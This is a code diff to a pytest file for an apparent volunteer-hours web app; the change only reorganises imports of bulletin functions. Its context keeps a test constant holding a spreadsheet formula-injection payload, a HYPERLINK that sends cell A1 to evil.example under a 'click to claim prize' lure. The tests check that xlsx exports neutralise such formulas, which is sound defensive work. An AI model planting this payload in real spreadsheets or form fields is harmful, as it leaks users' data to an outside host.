@@ -8,7 +8,9 @@ from zoneinfo import ZoneInfo
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from app.services import bulletins, incentives, ledger, spreadsheets
+from app.services import incentives, ledger, spreadsheets
+from app.services.bulletins.quarters import save_quarter_comment
+from app.services.bulletins.snapshots import list_bulletins
 from tests import factories as f
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
@@ -78,7 +80,7 @@ def test_bulletin_xlsx_is_neutralised(app, client, db):
     ledger.create_record(volunteer, started_at=start, ended_at=start + timedelta(hours=4), by=None)
     db.session.commit()
     assert app.test_cli_runner().invoke(args=["bulletins", "generate", "--month", "2026-10"]).exit_code == 0
-    bulletin = bulletins.list_bulletins(unit.id)[0]
+    bulletin = list_bulletins(unit.id)[0]
     f.login(client, f.platform_admin("boss"))
     response = client.get(f"/bulletins/{bulletin.id}.xlsx")
     assert response.status_code == 200
@@ -94,7 +96,7 @@ def test_records_template_cells_are_text(client, db):
 def test_quarterly_review_xlsx_is_neutralised(client, db):
     boss = f.platform_admin("boss")
     unit = f.unit(admin=boss)
-    bulletins.save_quarter_comment(unit.id, 2026, 3, EVIL, by=boss)
+    save_quarter_comment(unit.id, 2026, 3, EVIL, by=boss)
     db.session.commit()
     f.login(client, boss)
     response = client.get(f"/bulletins/quarter.xlsx?year=2026&q=3&unit_id={unit.id}")
